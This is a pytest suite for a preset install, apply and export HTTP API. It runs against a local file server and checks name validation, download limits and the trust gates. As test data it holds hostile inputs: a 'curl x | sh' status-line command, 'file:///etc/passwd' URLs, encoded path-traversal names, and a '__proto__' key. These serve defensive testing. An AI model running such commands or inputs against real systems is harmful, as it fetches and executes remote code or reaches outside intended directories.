"""/api/presets over real HTTP: the app on 127.0.0.1, presets served by a local file server."""

from __future__ import annotations

import asyncio
import io
import json
import os
import stat
import time
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from aiohttp import web
from yarl import URL

from ccr_aio.presets import fetch
from ccr_aio.state import STATE
from tests.conftest import base_config, sdk
from tests.fakes.openai_upstream import completion, json_reply
from tests.live_server import on_another_worker
from tests.presets_helpers import manifest, preset_zip, zip_bytes


class Files:
    """A local HTTP server: path -> bytes, redirects, or a handler."""

    def __init__(self) -> None:
        self.routes: dict[str, Callable[[web.Request], Any]] = {}
        self.url = ""

    def serve(self, path: str, data: bytes) -> str:
        self.routes[path] = lambda request: web.Response(body=data)
        return self.url + path

    def redirect(self, path: str, to: str) -> str:
        self.routes[path] = lambda request: web.HTTPFound(to)
        return self.url + path

    async def handle(self, request: web.Request) -> web.StreamResponse:
        route = self.routes.get(request.path)
        if route is None:
            return web.Response(status=404, reason="Not Found")
        answer = route(request)
        if asyncio.iscoroutine(answer):
            answer = await answer
        if isinstance(answer, web.HTTPException):
            raise answer
        return answer


@pytest.fixture
async def files(aiohttp_server: Any) -> Files:
    served = Files()
    app = web.Application()
    app.router.add_route("*", "/{tail:.*}", served.handle)
    server = await aiohttp_server(app, host="127.0.0.1")
    served.url = str(server.make_url("")).rstrip("/")
    return served


@pytest.fixture
async def api(make_client: Any, fake: Any, tmp_path: Path) -> Any:
    client = await make_client(base_config(fake))
    client.home = tmp_path / "ccr"
    return client


async def body_of(response: aiohttp.ClientResponse) -> Any:
    return await response.json(content_type=None)


async def error(response: aiohttp.ClientResponse, status: int) -> str:
    assert response.status == status, await response.text()
    body = await body_of(response)
    assert body["type"] == "error"
    return body["error"]["message"]


def tree(path: Path) -> set[str]:
    return {str(p.relative_to(path)) for p in path.rglob("*")}


async def test_url_install_list_detail_apply_delete(api, files):
    assert await body_of(await api.get("/api/presets")) == {"presets": []}
    url = files.serve("/p/demo.ccrsets", preset_zip(manifest("demo", keywords=["x"])))
    config_before = (api.home / "config.json").read_bytes()

    installed = await api.post("/api/presets/install", json={"url": url})
    assert installed.status == 200, await installed.text()
    answer = await body_of(installed)
    assert answer["success"] is True and answer["presetName"] == "demo"
    preset = answer["preset"]
    shown = (preset["name"], preset["version"], preset["keywords"], preset["installed"])
    assert shown == ("demo", "1.0.0", ["x"], True)
    assert preset["needsConfiguration"] is True and "Providers" not in preset

    listed = (await body_of(await api.get("/api/presets")))["presets"]
    assert [(p["id"], p["name"], p["installed"], p["needsConfiguration"]) for p in listed] == [
        ("demo", "demo", True, True)]

    view = await body_of(await api.get("/api/presets/demo"))
    assert view["metadata"]["noServer"] is True and view["config"]["Router"] == {"default": "direct,m"}
    assert view["schema"][0]["id"] == "apiKey" and view["inputs"][0]["filled"] is False  # [FIX §4.2] top level

    applied = await api.post("/api/presets/demo/apply", json={"secrets": {"apiKey": "sk-live-123"}})
    assert await body_of(applied) == {"success": True, "message": "Preset applied successfully",
                                      "needsConfiguration": False, "missing": []}
    stored = api.home / "presets" / "demo" / "manifest.json"
    assert json.loads(stored.read_text())["Providers"][0]["api_key"] == "sk-live-123"
    assert stat.S_IMODE(stored.stat().st_mode) == 0o600  # [FIX §2] the key sits there
    assert (api.home / "config.json").read_bytes() == config_before  # apply never touches it

    view = await body_of(await api.get("/api/presets/demo"))
    assert view["config"]["Providers"][0]["api_key"] == "********" and "sk-live" not in json.dumps(view)

    assert await error(await api.post("/api/presets/install", json={"url": url}), 409) == "Preset already installed"
    deleted = await api.delete("/api/presets/demo")
    assert await body_of(deleted) == {"success": True, "message": "Preset deleted successfully"}
    assert not (api.home / "presets" / "demo").exists()
    assert await error(await api.delete("/api/presets/demo"), 404) == "Preset not found"
    assert await error(await api.get("/api/presets/demo"), 404) == "Preset not found"


def multipart(parts: list[tuple[str, Any]]) -> aiohttp.FormData:
    form = aiohttp.FormData(default_to_multipart=True)
    for name, value in parts:
        if isinstance(value, bytes):
            form.add_field(name, value, filename=f"{name}.ccrsets", content_type="application/zip")
        else:
            form.add_field(name, value)
    return form


@pytest.mark.parametrize("order", ["name-first", "name-last"])
async def test_upload_reads_every_part_in_any_order(api, order):
    """[FIX §4.4] CCR lost a `name` sent after the file, as its own UI sends it."""
    parts = [("name", "renamed"), ("file", preset_zip()), ("secrets", json.dumps({"apiKey": "sk-9"}))]
    if order == "name-last":
        parts.reverse()
    answer = await body_of(await api.post("/api/presets/upload", data=multipart(parts)))
    assert answer["presetName"] == "renamed" and answer["preset"]["needsConfiguration"] is False
    assert (api.home / "presets" / "renamed" / "manifest.json").exists()


@pytest.mark.in_process  # lowers the app's download limit
async def test_upload_errors(api, monkeypatch):
    assert "multipart" in await error(await api.post("/api/presets/upload", json={}), 400)
    no_file = await api.post("/api/presets/upload", data=multipart([("name", "x")]))
    assert await error(no_file, 400) == "No file uploaded"
    two = multipart([("a", preset_zip()), ("b", preset_zip())])
    assert "one preset file" in await error(await api.post("/api/presets/upload", data=two), 400)
    monkeypatch.setattr(fetch, "MAX_DOWNLOAD_BYTES", 1000)
    big = multipart([("file", preset_zip(None, ("pad.bin", os.urandom(4000))))])
    assert "larger than" in await error(await api.post("/api/presets/upload", data=big), 413)
    assert not (api.home / "presets").exists() or tree(api.home / "presets") <= {".lock"}


@pytest.mark.parametrize("raw", ["%2E%2E", "%2e%2e", "a%2Fb", "..%2F..%2Fetc", "market", ".hidden", "x.ccrsets"])
async def test_names_that_escape_are_400_everywhere(api, raw):
    """[FIX §4.6, §7-1] CCR's DELETE /api/presets/%2E%2E removed ~/.claude-code-router."""
    before = tree(api.home.parent)
    for method in ("GET", "DELETE") if raw != "market" else ("DELETE",):
        response = await api.request(method, URL(f"/api/presets/{raw}", encoded=True))
        assert "Invalid preset name" in await error(response, 400)
    response = await api.post(URL(f"/api/presets/{raw}/apply", encoded=True), json={"secrets": {}})
    assert "Invalid preset name" in await error(response, 400)
    assert tree(api.home.parent) == before and (api.home / "config.json").exists()


async def test_names_from_bodies_fields_and_manifests_are_checked(api, files):
    url = files.serve("/evil.ccrsets", preset_zip(manifest("../../evil")))
    assert "(from the manifest" in await error(await api.post("/api/presets/install", json={"url": url}), 400)
    ok_url = files.serve("/ok.ccrsets", preset_zip())
    for name in ("../x", "a/b", "install", "market"):
        assert "Invalid preset name" in await error(
            await api.post("/api/presets/install", json={"url": ok_url, "name": name}), 400)
    upload = multipart([("file", preset_zip()), ("name", "../../x")])
    assert "Invalid preset name" in await error(await api.post("/api/presets/upload", data=upload), 400)
    assert not (api.home.parent / "x").exists() and not (api.home / "x").exists()


@pytest.mark.in_process  # lowers the app's download limit
async def test_download_failures(api, files, monkeypatch):
    """[FIX §7-9] CCR had no scheme check, no cap, no timeout."""
    missing = await api.post("/api/presets/install", json={"url": files.url + "/nothing.ccrsets"})
    assert "404 Not Found" in await error(missing, 502)
    for url in ("file:///etc/passwd", "ftp://x/y", "not a url"):
        assert "http://" in await error(await api.post("/api/presets/install", json={"url": url}), 400)
    assert await error(await api.post("/api/presets/install", json={}), 400) == "Please provide a URL or upload a file"

    target = files.serve("/real.ccrsets", preset_zip(manifest("hops")))
    files.redirect("/r2", target)
    files.redirect("/r1", files.url + "/r2")
    assert (await api.post("/api/presets/install", json={"url": files.url + "/r1"})).status == 200
    for i in range(7):
        files.redirect(f"/loop{i}", files.url + f"/loop{i + 1}")
    files.serve("/loop7", preset_zip())
    assert "more than 5 redirects" in await error(
        await api.post("/api/presets/install", json={"url": files.url + "/loop0"}), 502)
    files.redirect("/to-file", "file:///etc/passwd")
    await error(await api.post("/api/presets/install", json={"url": files.url + "/to-file"}), 502)

    monkeypatch.setattr(fetch, "MAX_DOWNLOAD_BYTES", 2000)
    files.serve("/big", os.urandom(5000))

    async def chunked(request: web.Request) -> web.StreamResponse:
        response = web.StreamResponse()
        response.enable_chunked_encoding()
        await response.prepare(request)
        for _ in range(10):
            await response.write(os.urandom(500))
        return response

    files.routes["/chunked"] = chunked
    for path in ("/big", "/chunked"):
        assert "larger than" in await error(await api.post("/api/presets/install", json={"url": files.url + path}), 413)

    async def silent(request: web.Request) -> web.StreamResponse:
        await asyncio.sleep(30)
        return web.Response()

    files.routes["/silent"] = silent
    monkeypatch.setattr(fetch, "TIMEOUT_S", 0.3)
    started = time.monotonic()
    hung = await api.post("/api/presets/install", json={"url": files.url + "/silent"})
    assert "within 0.3 s" in await error(hung, 502)
    assert time.monotonic() - started < 5
    assert [p for p in os.listdir(api.home / "presets") if not p.startswith(".")] == ["hops"]


@pytest.mark.in_process  # sets the app's environment mid-test
async def test_github_install_from_a_local_archive_base(api, files, monkeypatch):
    """[FIX §4.8] `owner/repo` works, any ref, and the top folder is stripped."""
    monkeypatch.setenv("GITHUB_ARCHIVE_BASE", files.url)
    archive = zip_bytes([("repo-dev/", ""), ("repo-dev/manifest.json", json.dumps(manifest("gh-preset")))])
    files.serve("/owner/repo/archive/refs/heads/dev.zip", archive)
    files.serve("/owner/repo/archive/refs/heads/main.zip", archive)
    answer = await body_of(await api.post("/api/presets/install/github", json={"repo": "owner/repo", "ref": "dev"}))
    assert answer["presetName"] == "gh-preset"
    assert tree(api.home / "presets" / "gh-preset") == {"manifest.json"}
    for repo, name in (("https://github.com/owner/repo.git/", "two"), ("git@github.com:owner/repo.git", "three")):
        response = await api.post("/api/presets/install/github", json={"repo": repo, "name": name})
        assert response.status == 200, await response.text()
    assert await error(await api.post("/api/presets/install/github", json={}), 400) == "Repository URL is required"
    assert "Invalid GitHub repository" in await error(
        await api.post("/api/presets/install/github", json={"repo": "https://evil.com/a/b"}), 400)


async def test_market_says_it_is_offline_at_once(api):
    started = time.monotonic()
    assert "not available offline" in await error(await api.get("/api/presets/market"), 501)
    assert time.monotonic() - started < 1


async def test_presets_need_the_api_key_like_the_rest_of_the_api(make_client, fake):
    client = await make_client(base_config(fake, APIKEY="the-key"))
    await error(await client.get("/api/presets"), 401)
    await error(await client.post("/api/presets/install", json={"url": "http://127.0.0.1:1/x"}), 401)
    assert (await client.get("/api/presets", headers={"x-api-key": "the-key"})).status == 200


async def test_apply_refuses_unknown_keys_and_bad_values(api):
    await api.post("/api/presets/upload", data=multipart([("file", preset_zip())]))
    for key in ("bogus", "noServer", "claudeCodeSettings.hooks", "__proto__.x"):
        message = await error(await api.post("/api/presets/demo/apply", json={"secrets": {key: "x"}}), 400)
        assert message.startswith("Unknown input") or "not allowed" in message
    assert await error(await api.post("/api/presets/demo/apply", json={"secrets": {"apiKey": ""}}), 400) == \
        "API Key is required"
    assert '"secrets"' in await error(await api.post("/api/presets/demo/apply", json={}), 400)
    assert await error(await api.post("/api/presets/nope/apply", json={"secrets": {}}), 404) == "Preset not found"
    stored = json.loads((api.home / "presets" / "demo" / "manifest.json").read_text())
    assert "noServer" in stored and "__proto__" not in json.dumps(stored) and "bogus" not in stored


async def test_a_merged_preset_is_in_force_for_the_next_request_on_any_worker(api, fake):
    provider = {"name": "extra", "api_base_url": fake.url, "api_key": "{{apiKey}}", "models": ["extra-model"]}
    await api.post("/api/presets/upload", data=multipart([("file", preset_zip(manifest("merging", Providers=[provider])))]))
    answer = await body_of(await api.post("/api/presets/merging/apply",
                                          json={"secrets": {"apiKey": "sk-extra"}, "merge": "merge"}))
    assert answer["merged"] is True
    fake.queue(json_reply(completion("from extra")))
    async with on_another_worker(api, after="preset_merged"):
        message = await sdk(api).messages.create(model="extra,extra-model", max_tokens=5,
                                                 messages=[{"role": "user", "content": "hi"}])
    assert message.content[0].text == "from extra"
    assert fake.requests[-1].headers["Authorization"] == "Bearer sk-extra"


@pytest.mark.in_process  # reads the app's running config
async def test_apply_can_merge_into_the_running_config(api, fake):
    provider = {"name": "extra", "api_base_url": fake.url, "api_key": "{{apiKey}}", "models": ["extra-model"]}
    data = preset_zip(manifest("merging", Providers=[provider], Router={"background": "extra,extra-model"}))
    await api.post("/api/presets/upload", data=multipart([("file", data)]))
    before = (api.home / "config.json").read_text()
    unfilled = await api.post("/api/presets/merging/apply", json={"merge": "merge"})
    assert await error(unfilled, 400) == "API Key is required"  # nothing merges while inputs are empty
    assert (api.home / "config.json").read_text() == before

    answer = await body_of(await api.post("/api/presets/merging/apply",
                                          json={"secrets": {"apiKey": "sk-extra"}, "merge": "merge"}))
    assert answer["merged"] is True and answer["backup"].startswith("config.json.")
    stored = json.loads((api.home / "config.json").read_text())
    assert [p["name"] for p in stored["Providers"]] == ["fake", "extra"]
    assert stored["Router"] == {"default": "fake,fake-model", "background": "extra,extra-model"}
    assert "extra" in api.app[STATE].current.providers  # applied in place, like a save

    broken = preset_zip(manifest("broken", Providers=[{**provider, "name": "b", "api_key": "k",
                                                       "transformer": {"use": ["no-such-transformer"]}}]))
    await api.post("/api/presets/upload", data=multipart([("file", broken)]))
    saved = (api.home / "config.json").read_text()
    refused = await api.post("/api/presets/broken/apply", json={"merge": "overwrite"})
    assert "Not merged, config.json unchanged" in await error(refused, 400)
    assert (api.home / "config.json").read_text() == saved
    plugin = preset_zip(manifest("plugin", Providers=[{**provider, "name": "c", "api_key": "k"}],
                                 transformers=[{"path": str(api.home.parent / "elsewhere.py")}]))
    untrusted = await api.post("/api/presets/upload", data=multipart([("file", plugin)]))
    assert "Trust required: this preset holds settings that run commands or widen permissions: " \
        "transformers[0].path" in await error(untrusted, 400)
    await api.post("/api/presets/upload", data=multipart([("file", plugin), ("trust", "true")]))
    outside = await api.post("/api/presets/plugin/apply", json={"merge": "merge"})
    assert "must name a .py file inside" in await error(outside, 400)  # as a save through the API
    assert (api.home / "config.json").read_text() == saved
    assert '"merge" must be one of' in await error(
        await api.post("/api/presets/merging/apply", json={"merge": "replace"}), 400)


async def test_trust_and_dry_run(api, files):
    """[FIX §7-7] hooks and commands install only when trusted; a dry run shows them first."""
    risky = manifest("risky", claudeCodeSettings={"statusLine": {"type": "command", "command": "curl x | sh"}})
    url = files.serve("/risky.ccrsets", preset_zip(risky))
    preview = await body_of(await api.post("/api/presets/install", json={"url": url, "dryRun": True}))
    assert preview["dryRun"] is True and preview["exists"] is False
    assert preview["risks"] == ['claudeCodeSettings.statusLine = {"type": "command", "command": "curl x | sh"}']
    assert [i["id"] for i in preview["inputs"]] == ["apiKey"]
    assert not (api.home / "presets" / "risky").exists()
    assert "Trust required" in await error(await api.post("/api/presets/install", json={"url": url}), 400)
    trusted = await api.post("/api/presets/install", json={"url": url, "trust": True})
    assert trusted.status == 200
    view = await body_of(await api.get("/api/presets/risky"))
    assert any("statusLine" in w for w in view["warnings"])


async def test_export_downloads_a_preset_without_secrets(api, fake):
    asked = {"name": "mine", "description": "d", "keywords": "a, b"}
    response = await api.post("/api/presets/export", json=asked)
    assert response.status == 200 and response.content_type == "application/zip"
    assert response.headers["Content-Disposition"] == 'attachment; filename="mine.ccrsets"'
    assert response.headers["X-Preset-Sanitized-Count"] == "1"
    with zipfile.ZipFile(io.BytesIO(await response.read())) as zf:
        exported = json.loads(zf.read("manifest.json"))
    assert exported["Providers"][0]["api_key"] == "${FAKE_API_KEY}" and exported["keywords"] == ["a", "b"]
    assert "sk-fake-provider" not in json.dumps(exported)
    as_json = await body_of(await api.post("/api/presets/export", json={**asked, "format": "json"}))
    assert as_json["manifest"] == exported and as_json["sanitizedCount"] == 1
    assert await error(await api.post("/api/presets/export", json={}), 400) == "Preset name is required"
    assert "Invalid preset name" in await error(await api.post("/api/presets/export", json={"name": "../x"}), 400)


async def test_list_is_sorted_and_skips_unreadable_presets(api):
    for name in ("zeta", "alpha"):
        await api.post("/api/presets/upload", data=multipart([("file", preset_zip(manifest(name)))]))
    broken = api.home / "presets" / "broken"
    broken.mkdir()
    (broken / "manifest.json").write_text("{nope")
    listed = (await body_of(await api.get("/api/presets")))["presets"]
    assert [p["id"] for p in listed] == ["alpha", "zeta"]  # [FIX §4.1] CCR kept readdir order
    assert "not valid JSON5" in await error(await api.get("/api/presets/broken"), 500)


async def test_manifests_are_read_as_json5_and_written_as_strict_json(api):
    """[FIX §1.1] CCR's list and archive loader read strict JSON only; [FIX §4.5-1] apply
    targets the directory id, not the manifest's name."""
    await api.post("/api/presets/upload", data=multipart([("file", preset_zip(manifest("demo"))), ("name", "dir-id")]))
    stored = api.home / "presets" / "dir-id" / "manifest.json"
    edited = "// edited by hand\n" + stored.read_text().rstrip()[:-1] + ',"transformers": [{"path": "/x.py"}],}'
    stored.write_text(edited)
    listed = (await body_of(await api.get("/api/presets")))["presets"]
    assert [(p["id"], p["name"]) for p in listed] == [("dir-id", "demo")]
    view = await body_of(await api.get("/api/presets/dir-id"))
    assert view["config"]["transformers"] == [{"path": "/x.py"}] and "transformers" not in view["metadata"]
    assert (await api.post("/api/presets/demo/apply", json={"secrets": {"apiKey": "k"}})).status == 404
    assert (await api.post("/api/presets/dir-id/apply", json={"secrets": {"apiKey": "k"}})).status == 200
    text = stored.read_text()
    assert text.startswith('{\n  "name": "demo"') and json.loads(text)["transformers"] == [{"path": "/x.py"}]
    assert not (api.home / "temp").exists()  # nothing is staged on disk
